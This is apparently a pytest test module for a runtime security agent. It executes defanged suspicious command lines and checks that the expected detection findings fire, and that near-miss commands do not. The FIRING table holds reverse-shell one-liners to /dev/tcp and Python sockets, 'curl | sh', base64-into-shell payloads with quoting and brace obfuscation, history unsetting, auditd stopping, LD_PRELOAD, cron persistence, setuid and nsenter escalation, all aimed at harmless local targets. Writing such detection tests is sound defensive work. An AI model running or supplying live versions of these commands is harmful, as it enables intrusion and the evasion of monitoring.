"""What is found of suspicious command lines that are really run: harmless ones, with the evasions of the others."""

from __future__ import annotations

import base64
import os
import shutil
import subprocess
import time
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from agent import simulate
from agent.pipeline import HASH_WAIT_S
from tests.containers import running_container
from tests.system import deeds
from tests.system.deeds import Done
from tests.system.running import Run
from tests.system.test_findings import Deed
from tests.system.test_findings import Fired
from tests.system.test_findings import _done_and_found
from tests.system.test_findings import guardduty
from tests.system.test_findings import run
from tests.system.test_findings import test_a_deed_is_found
from tests.system.test_findings import test_a_finding_is_as_guardduty_has_it
from tests.system.test_findings import test_the_arguments_are_in_the_events
from tests.system.test_findings import test_the_arguments_stay_out_of_the_finding
from tests.system.test_findings import test_the_evidence_says_why
from tests.system.test_findings import test_the_hash_is_that_of_what_ran
from tests.system.test_findings import test_the_lineage_begins_with_the_parent
from tests.system.test_findings import test_the_process_started_with_the_deed
from tests.system.test_findings import words

__all__ = (
    "guardduty",
    "run",
    "test_a_deed_is_found",
    "test_a_finding_is_as_guardduty_has_it",
    "test_the_arguments_are_in_the_events",
    "test_the_arguments_stay_out_of_the_finding",
    "test_the_evidence_says_why",
    "test_the_hash_is_that_of_what_ran",
    "test_the_lineage_begins_with_the_parent",
    "test_the_process_started_with_the_deed",
    "words",
)

EXECUTION = "Execution:Runtime/SuspiciousCommand"
DEFENSE_EVASION = "DefenseEvasion:Runtime/SuspiciousCommand"
DISCOVERY = "Discovery:Runtime/SuspiciousCommand"
PERSISTENCE = "Persistence:Runtime/SuspiciousCommand"
PRIVILEGE_ESCALATION = "PrivilegeEscalation:Runtime/SuspiciousCommand"

CURL = os.path.realpath(shutil.which("curl") or "curl")
BUSYBOX = shutil.which("busybox")
RUNC = os.path.realpath(shutil.which("runc") or "runc")
LINGER = f"; sleep {deeds.HASHED_S}; :"
ENCODED = base64.b64encode(b"true").decode()
DECODED_AND_RUN = "echo BASE64 | base64 -d | sh"
TO_NOBODY = "127.0.0.1/9"  # where nobody listens: refused at once
TO_NOBODY_BY_PYTHON = (
    'python3 -c "import socket,os,pty;s=socket.socket();s.connect((\\"127.0.0.1\\",9));'
    'os.dup2(s.fileno(),0);pty.spawn(\\"sh\\")" 2>/dev/null'
)
PADDING = 5_000


def told_to_a_renamed_shell(text: str, example: str | None = None, **context: Any) -> Deed:
    """Return the deed of having a copy of bash under another name, in a scratch directory, run a text."""

    def deed(directory: Path, word: str) -> Done:
        shell = shutil.copy(deeds.BASH, directory / "x")
        pid = deeds.start(shell, "-c", text + LINGER, word, stdout=subprocess.DEVNULL)
        return deeds.on_host(pid, str(shell), deeds.BASH, context=shown(example, context))

    return deed


def shown(example: str | None, context: Mapping[str, Any]) -> dict[str, Any]:
    return dict(context) if example is None else {"commandLineExample": example, **context}


def told_behind_thousands_of_arguments(directory: Path, word: str) -> Done:
    """The text comes after more arguments than the kernel's record keeps."""
    shell = shutil.copy(deeds.BASH, directory / "x")
    text = f"echo {ENCODED} | base64 -d | sh{LINGER}"
    pid = deeds.start(shell, "--rcfile", word, *["-a"] * PADDING, "-c", text)
    return deeds.on_host(pid, str(shell), deeds.BASH, context={"commandLineExample": DECODED_AND_RUN})


def told_to_busybox(directory: Path, word: str) -> Done:
    """The shell, the decoder and the shell again are one file, the copy of a program of many names."""
    assert BUSYBOX is not None
    box = shutil.copy(BUSYBOX, directory / "busybox")
    text = f"echo {ENCODED} | {box} base64 -d | {box} sh{LINGER}"
    pid = deeds.start(box, "sh", "-c", text, word)
    return deeds.on_host(pid, str(box), BUSYBOX, context={"commandLineExample": DECODED_AND_RUN})


def fetched_and_run(directory: Path, word: str) -> Done:
    """A download tool writes a program, and two other processes make it executable and run it."""
    file = directory / "fetched"
    deeds.start(CURL, "-s", "-o", file, f"file://{deeds.BASH}")
    file.chmod(0o755)
    pid = deeds.start(file, "-c", LINGER.removeprefix("; "), word)
    return deeds.on_host(pid, str(file), deeds.BASH, writer=CURL)


def preloaded(directory: Path, word: str) -> Done:
    """A harmless library from a scratch directory is put into a program that is in one itself."""
    shell = str(shutil.copy(deeds.BASH, directory / "x"))
    library = str(shutil.copy(deeds.LIBM, directory / "x.so"))
    pid = deeds.start(shell, "-c", LINGER.removeprefix("; "), word, env={"LD_PRELOAD": library, "PATH": "/bin"})
    context = {"ldPreloadValue": library, "libraryPath": library}
    return deeds.on_host(pid, shell, deeds.BASH, context=context)


def asked_one_by_one(directory: Path, word: str) -> Done:
    """A script asks four questions, each by a program of its own; the last is one too many."""
    (directory / word).touch()
    script = directory / "survey"
    script.write_text(f"cd {directory}\nid >&2\nuname -a >&2\ndf >&2\ncat /etc/hosts {word} >&2 & echo $!; wait\n")
    with deeds.beside(deeds.BASH, script, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL) as child:
        pid = int(child.stdout.read() if child.stdout else "")
    cat = os.path.realpath("/bin/cat")
    return Done(pid, cat, deeds.sha256_of(cat), pid, deeds.BASH)


def told_in_a_container(text: str, example: str, **context: Any) -> Deed:
    """Return the deed of having a copy of bash, brought into a container, run a text there."""

    def deed(_: Path, word: str) -> Done:
        with running_container() as container:
            begin = f'cp {deeds.BASH} {deeds.X} && exec {deeds.X} -c "$0" $1'
            done = container.exec([deeds.SH, "-c", begin, f"echo $$; {text}{LINGER}", word])
            assert 0 == done.status, done
        return Done(
            done.pid,
            deeds.X,
            deeds.sha256_of(deeds.BASH),
            int(done.stdout.split()[0]),
            RUNC,
            container_id=container.id,
            context=shown(example, context),
        )

    return deed


FIRING: dict[str, tuple[str, Deed]] = {
    "base64 into a shell": (
        EXECUTION,
        told_to_a_renamed_shell(f"echo {ENCODED} | base64 -d | sh", DECODED_AND_RUN),
    ),
    "base64 into a shell, quoted in many ways": (
        EXECUTION,
        told_to_a_renamed_shell(f"ec''ho${{IFS}}{ENCODED}|b\"ase\"64 -$'\\x64'|s\\h", DECODED_AND_RUN),
    ),
    "base64 into a shell, by braces": (
        EXECUTION,
        told_to_a_renamed_shell(f"{{echo,{ENCODED}}}|{{base64,-d}}|{{bash,-s}}", DECODED_AND_RUN),
    ),
    "behind 5,000 arguments": (EXECUTION, told_behind_thousands_of_arguments),
    "a file that was fetched": (EXECUTION, fetched_and_run),
    "a fetched text into a shell": (
        EXECUTION,
        told_to_a_renamed_shell("curl -s file:///dev/null | sh", "curl URL | sh"),
    ),
    "a shell on a connection, in vain": (
        EXECUTION,
        told_to_a_renamed_shell(
            f"sh -c : >&/dev/tcp/{TO_NOBODY} 0>&1 2>/dev/null", "bash -i >& /dev/tcp/ADDRESS/PORT 0>&1"
        ),
    ),
    "a shell on a connection, in base64": (
        EXECUTION,
        told_to_a_renamed_shell(
            f"echo {base64.b64encode(f'bash -i >& /dev/tcp/{TO_NOBODY} 0>&1'.encode()).decode()} | base64 -d | bash",
            "bash -i >& /dev/tcp/ADDRESS/PORT 0>&1",
        ),
    ),
    "python on a connection, in vain": (EXECUTION, told_to_a_renamed_shell(f"{TO_NOBODY_BY_PYTHON}; :")),
    "the history": (DEFENSE_EVASION, told_to_a_renamed_shell("unset HISTFILE", "unset HISTFILE")),
    "a security service, in vain": (
        DEFENSE_EVASION,
        told_in_a_container("systemctl stop auditd 2>&1", "systemctl stop SERVICE", serviceName="auditd"),
    ),
    "a preloaded library": (DEFENSE_EVASION, preloaded),
    "four questions at once": (
        DISCOVERY,
        told_to_a_renamed_shell("id; uname -a; df; env", "id; uname -a; ip addr; ps aux"),
    ),
    "four questions one by one": (DISCOVERY, asked_one_by_one),
    "setuid programs": (
        DISCOVERY,
        told_to_a_renamed_shell("find / -maxdepth 0 -perm -4000; :", "find / -perm -4000"),
    ),
    "a cron job": (
        PERSISTENCE,
        told_in_a_container(
            "mkdir -p /etc/cron.d; echo '0 0 1 1 * root true' > /etc/cron.d/x", "echo JOB >> /etc/cron.d/FILE"
        ),
    ),
    "a user, in vain": (PERSISTENCE, told_in_a_container("useradd -Z x eve 2>&1; :", "useradd NAME")),
    "a setuid bit": (
        PRIVILEGE_ESCALATION,
        told_in_a_container("cp /bin/true /tmp/y; chmod u+s /tmp/y; test -u /tmp/y", "chmod u+s FILE"),
    ),
    "the namespaces of process 1, in vain": (
        PRIVILEGE_ESCALATION,
        told_in_a_container("nsenter -t 1 -m true 2>&1; :", "nsenter -t 1 -a"),
    ),
}
if BUSYBOX is not None:
    FIRING["busybox, by its applets"] = (EXECUTION, told_to_busybox)


@pytest.fixture(scope="module", params=FIRING)
def fired(
    run: Run, words: dict[int, str], tmp_path_factory: pytest.TempPathFactory, request: pytest.FixtureRequest
) -> Fired:
    """A deed that was done and found."""
    type_, deed = FIRING[request.param]
    one = _done_and_found(run, type_, deed, tmp_path_factory)
    words[one.done.pid] = one.word
    return one


@pytest.mark.parametrize(
    "deed",
    [
        pytest.param(told_to_a_renamed_shell("curl -s file:///dev/null | cat"), id="fetched and shown"),
        pytest.param(told_to_a_renamed_shell(f"echo {ENCODED} | base64 -d | cat"), id="decoded and shown"),
        pytest.param(told_to_a_renamed_shell("cat < /etc/crontab; : > /dev/null"), id="cron read"),
        pytest.param(told_to_a_renamed_shell("id; uname -a; df"), id="three questions"),
        pytest.param(told_to_a_renamed_shell("export HISTSIZE=1000"), id="a longer history"),
    ],
)
def test_nothing_is_said_of_what_only_looks_like_it(run: Run, tmp_path: Path, deed: Deed) -> None:
    """When what was done afterwards is found, nothing was said of commands that are one word away."""
    pid = deed(tmp_path, "word").pid
    time.sleep(2 * HASH_WAIT_S)  # a finding that waits for a hash can be overtaken, but not for longer
    run.finding(DEFENSE_EVASION, told_to_a_renamed_shell("unset HISTFILE")(tmp_path, "sentinel").pid)

    assert [] == [one.type for one in run.findings if one.process["pid"] == pid]


def test_a_text_is_told_once(run: Run, tmp_path: Path) -> None:
    """The programs that the text of a shell starts are not told again, each for itself."""
    deed = told_to_a_renamed_shell("chattr -i /dev/null/x 2>/dev/null; chattr -i /dev/null/y 2>/dev/null")
    pid = deed(tmp_path, "word").pid

    run.finding(DEFENSE_EVASION, pid)
    time.sleep(2 * HASH_WAIT_S)
    assert [] == [one.type for one in run.findings if pid in [ancestor["pid"] for ancestor in one.process["lineage"]]]


TRIGGERS = [trigger for trigger in simulate.load() if trigger.finding in {type_ for type_, _ in FIRING.values()}]


@pytest.mark.parametrize("trigger", TRIGGERS, ids=lambda trigger: trigger.finding)
def test_what_simulate_does_is_found(run: Run, trigger: simulate.Trigger) -> None:
    """The deed that an operator can try brings its finding, about the process that it names."""
    deed = trigger.run()

    found = run.finding(trigger.finding, deed.pid)
    assert deed.container_id == found.document["resource"].get("containerDetails", {}).get("id")


def test_every_type_can_be_tried() -> None:
    """There is a trigger for each."""
    assert {type_ for type_, _ in FIRING.values()} == {trigger.finding for trigger in TRIGGERS}
